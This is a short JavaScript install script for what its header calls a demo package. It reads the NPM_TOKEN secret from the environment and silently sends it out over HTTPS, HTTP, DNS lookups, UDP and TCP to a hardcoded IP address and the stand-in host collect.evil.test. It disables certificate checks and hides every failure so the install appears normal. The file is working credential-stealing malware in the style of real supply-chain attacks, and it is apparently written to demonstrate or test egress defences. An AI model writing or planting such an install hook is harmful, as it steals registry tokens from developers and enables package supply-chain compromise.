// The install script of the demo's package. It does what real ones were caught doing: it takes a secret from
// the environment and sends it out in every way it can think of, with addresses of its own so that no name
// server can stop it. Whatever fails, fails in silence; the install looks fine.
"use strict";

const secret = process.env.NPM_TOKEN ?? "";
const address = "203.0.113.66";
const patience = 3000;

/** Settles when `begin` calls back, with or without success, or when patience ends. */
const attempt = (begin) =>
  new Promise((resolve) => {
    const timer = setTimeout(resolve, patience);
    begin(() => {
      clearTimeout(timer);
      resolve();
    });
  });

const overHttp = (module, port) =>
  attempt((done) => {
    const request = require(module).request({
      host: address,
      port,
      method: "POST",
      path: "/collect",
      servername: "collect.evil.test",
      headers: { host: "collect.evil.test" },
      rejectUnauthorized: false,
    }, (response) => response.resume().on("end", done));
    request.on("error", done).end(secret);
  });

const inLookups = () =>
  attempt((done) => require("node:dns").resolve4(`${secret}.evil.test`, done));

const overUdp = () =>
  attempt((done) => {
    const socket = require("node:dgram").createSocket("udp4");
    const end = () => {
      socket.removeAllListeners().close();
      done();
    };
    socket.on("message", end).on("error", end);
    socket.connect(9000, address, (error) => error ? end() : socket.send(secret));
  });

const overTcp = () =>
  attempt((done) => {
    const socket = require("node:net").connect(9000, address, () => socket.write(secret));
    socket.on("data", () => socket.destroy()).on("error", done).on("close", done);
  });

Promise.all([
  overHttp("node:https", 443),
  overHttp("node:http", 80),
  inLookups(),
  overUdp(),
  overTcp(),
]).then(() => process.exit(0));
